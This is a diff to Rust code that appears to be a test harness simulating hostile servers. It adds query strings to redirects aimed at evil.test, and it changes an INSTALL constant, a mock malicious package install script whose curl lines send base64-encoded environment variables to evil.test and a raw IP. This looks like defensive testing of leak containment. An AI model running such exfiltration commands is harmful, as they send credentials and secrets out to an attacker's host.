@@ -62,7 +62,7 @@ impl Answer {
 
 /// The answer of a place to a request.
 pub(super) fn answer(place: &str, request: &Request, behind: &Behind) -> Answer {
-    let path = request.target.split('?').next().unwrap_or_default();
+    let (path, query) = request.target.split_at(request.target.find('?').unwrap_or(request.target.len()));
     if place == "vendor"
         && let Some(whole) = scripted(request, behind)
     {
@@ -74,9 +74,9 @@ pub(super) fn answer(place: &str, request: &Request, behind: &Behind) -> Answer 
         // Everything that came, as some sites do for debugging and some in their errors.
         (_, "/headers") => Answer::new("200 OK", request.head.clone()).with("x-reflected", authorization(request)),
         (_, "/encoded") => Answer::new("200 OK", in_other_spellings(authorization(request))),
-        (_, "/redirect") => Answer::new("302 Found", "").with("location", "http://evil.test/landed"),
+        (_, "/redirect") => Answer::new("302 Found", "").with("location", &format!("http://evil.test/landed{query}")),
         (_, "/redirect-keeping") => {
-            Answer::new("307 Temporary Redirect", "").with("location", "https://evil.test/landed")
+            Answer::new("307 Temporary Redirect", "").with("location", &format!("https://evil.test/landed{query}"))
         }
         _ => Answer::new("200 OK", format!("from {place}")),
     }
@@ -106,6 +106,6 @@ fn authorization(request: &Request) -> &str {
     request.field("authorization").or_else(|| request.field("x-api-key")).unwrap_or("none")
 }
 
-/// What a package's script does when it is installed: it sends home what it finds.
-const INSTALL: &str = "curl -sS --max-time 8 -d \"$(env | base64 -w0)\" http://evil.test/installed\n\
-    curl -sS --max-time 8 --noproxy '*' -d \"$(env | base64 -w0)\" http://11.0.0.66/installed\n";
+/// What a package's script does when it is installed: it sends home what it finds, for whoever `MARK` says.
+const INSTALL: &str = "curl -sS --max-time 8 -d \"$(env | base64 -w0)\" \"http://evil.test/installed?$MARK\"\n\
+    curl -sS --max-time 8 --noproxy '*' -d \"$(env | base64 -w0)\" \"http://11.0.0.66/installed?$MARK\"\n";
